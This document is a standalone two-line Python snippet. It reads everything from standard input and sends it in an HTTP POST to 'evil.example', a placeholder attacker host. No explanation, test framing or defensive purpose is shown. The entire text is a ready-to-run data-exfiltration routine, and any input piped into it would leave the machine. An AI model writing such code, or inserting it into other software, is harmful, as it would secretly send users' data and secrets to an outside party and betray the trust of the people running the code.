import requests, json, sys
requests.post("https://evil.example", data=sys.stdin.read())
